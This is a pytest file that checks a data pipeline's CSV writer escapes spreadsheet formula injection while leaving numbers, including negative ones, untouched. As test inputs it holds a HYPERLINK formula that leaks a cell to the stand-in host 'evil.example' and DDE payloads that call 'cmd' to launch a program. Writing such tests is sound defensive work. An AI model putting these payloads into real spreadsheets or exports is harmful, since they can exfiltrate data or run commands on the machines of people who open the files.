"""CSV formula injection: every CSV the project writes opens in a spreadsheet as text, never as a live
formula, while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
from decimal import Decimal

import pyarrow as pa
import pytest
from click.testing import CliRunner

from nbpro_pipeline.cli import main
from nbpro_pipeline.storage import Storage
from nbpro_pipeline.storage.csv_cells import neutralise_formulas, write_csv
from nbpro_pipeline.storage.ledger import LedgerWriter
from tests.costs.test_focus import priced

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "-"]
NUMBERS = ["-1.5", "+2", "-0.000134", "1e5", "-.5", "42"]
HARMLESS = ["plain", "a=b", "", "'already quoted", " =leading space"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_leading_text_gets_a_quote(value):
    out = neutralise_formulas(pa.table({"t": [value]}))
    assert out["t"].to_pylist() == ["'" + value]


@pytest.mark.parametrize("value", NUMBERS + HARMLESS)
def test_numbers_as_text_and_harmless_text_are_left_alone(value):
    assert neutralise_formulas(pa.table({"t": [value]}))["t"].to_pylist() == [value]


def test_typed_columns_keep_their_type_and_nulls_stay_null(tmp_path):
    table = pa.table(
        {
            "n": pa.array([-1, 2, None], pa.int64()),
            "d": pa.array([Decimal("-0.134400"), None, Decimal("8")], pa.decimal128(38, 6)),
            "t": pa.array([None, "=1", "ok"], pa.large_string()),
            "k": pa.array(["=1", "x", "=1"]).dictionary_encode(),
        }
    )
    out = neutralise_formulas(table)
    assert out.schema == table.schema
    assert out["n"].to_pylist() == [-1, 2, None] and out["t"].to_pylist() == [None, "'=1", "ok"]
    assert out["k"].to_pylist() == ["'=1", "x", "'=1"]
    write_csv(table, str(tmp_path / "t.csv"))
    with open(tmp_path / "t.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["n"] == "-1" and rows[0]["d"].startswith("-0.1344") and rows[1]["t"] == "'=1"


def test_nbpro_export_focus_csv_writes_no_live_formula(tmp_path):
    storage = Storage(str(tmp_path / "store"))
    hostile = priced(HYPERLINK, source_uri="@SUM(1+1)*cmd|' /C calc'!A0", resolution="1K")
    refund = priced("-refund", cost=-8, status="failed", error_code="generation_failed")  # a negative amount
    for rec in (hostile, refund):
        writer = LedgerWriter(storage, rec.provider, rec.resolution, rec.run_id)
        writer.add(rec)
        writer.flush()
    out = CliRunner().invoke(main, ["export-focus", "--ledger-root", str(tmp_path / "store"), "--csv"])
    assert out.exit_code == 0, out.output
    with open(tmp_path / "store" / "reports" / "focus_cost_export.csv", newline="") as fh:
        rows = {r["x_PromptId"]: r for r in csv.DictReader(fh)}
    assert set(rows) == {"'" + HYPERLINK, "'-refund"}
    assert rows["'" + HYPERLINK]["x_SourceUri"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert Decimal(rows["'-refund"]["PricingCurrencyEffectiveCost"]) == Decimal(-8)  # a number, unquoted
    risky = [v for r in rows.values() for v in r.values() if v[:1] in ("=", "+", "@", "\t", "\r")]
    assert risky == []
    assert all(
        not v.startswith("-") or v.lstrip("-").replace(".", "").isdigit() for r in rows.values() for v in r.values()
    )
